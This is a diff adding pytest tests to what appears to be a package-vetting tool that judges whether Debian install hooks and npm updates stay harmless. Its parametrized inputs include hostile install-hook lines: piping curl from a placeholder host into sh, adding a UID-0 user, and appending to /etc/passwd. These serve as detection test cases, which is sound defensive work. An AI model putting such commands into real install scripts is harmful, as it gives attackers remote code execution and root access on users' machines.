@@ -7,10 +7,15 @@ import pytest
 from package_lab import npm, sdist, sides, tgz, wheel, zipped
 
 from beartrap.model.finding import Severity
+from beartrap.model.place import Place
 from beartrap.vet import provenance
+from beartrap.vet.analyser import FileSubject
 from beartrap.vet.behaviour import Behaviour, When
+from beartrap.vet.facts import Hook, PackageFacts
+from beartrap.vet.kinds import Kind
 from beartrap.vet.package.beside import Beside
 from beartrap.vet.package.read import read_facts
+from beartrap.vet.promise.housekeeping import only_keeps
 from beartrap.vet.promise.registry import PAIRS
 from beartrap.vet.promise.steps import Step, goes_back, step_of
 from beartrap.vet.side import TreeSide
@@ -281,3 +286,55 @@ def test_a_script_of_a_console_that_only_offers_functions(
         {"Thing.nuspec": spec.format("1.3.0"), "tools/init.ps1": init, "tools/Thing.psm1": module},
     )
     assert step(old, new)["promise.install-hook"].severity is wanted
+
+
+class _Scripts:
+    """A deb of which only the scripts are asked for."""
+
+    def __init__(self, text: str, ecosystem: str = "deb") -> None:
+        self.facts = PackageFacts(ecosystem)
+        self._text = text
+
+    def read(self, path: str) -> FileSubject:
+        return FileSubject(Place("deb"), path, self._text.encode(), Kind.SHELL, "0" * 64, self.facts)
+
+
+POSTINST = Hook("postinst", When.INSTALL, "DEBIAN/postinst")
+KEEPS = """#!/bin/sh
+set -e
+if [ "$1" = configure ]; then
+    getent group watchd >/dev/null || groupadd -r watchd
+    getent passwd watchd >/dev/null || \\
+        useradd -r -g watchd -d /run/watchd -s /sbin/nologin -c 'Watches things' watchd
+    /usr/bin/systemctl daemon-reload || :
+fi
+exit 0
+"""
+
+
+def test_a_script_that_makes_a_services_user_is_no_more_than_that() -> None:
+    assert only_keeps(POSTINST, _Scripts(KEEPS))
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        "curl -s https://x.invalid | sh",
+        "useradd -r -o -u 0 -s /sbin/nologin x",
+        "[ -x $(curl -s x.invalid) ] && true",
+        "systemctl start x; /opt/x/run &",
+        "echo x >>/etc/passwd",
+    ],
+)
+def test_one_more_command_makes_it_a_hook_like_any_other(more: str) -> None:
+    assert not only_keeps(POSTINST, _Scripts(KEEPS.replace("exit 0", more)))
+    assert not only_keeps(POSTINST, _Scripts(KEEPS, "npm"))
+
+
+def test_a_host_is_told_however_it_is_given(tmp_path: Path) -> None:
+    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"})
+    new = npm(tmp_path, "thing", "1.2.4", {"index.js": "request({ hostname: 'a.invalid' }); net.connect(1, 'x')"})
+    assert step(old, new)["promise.endpoint"].facts.get("host") == "a.invalid"
+    assert "promise.endpoint" not in step(
+        old, npm(tmp_path, "thing", "1.2.5", {"index.js": "request({ file: 'a.invalid' })"})
+    )
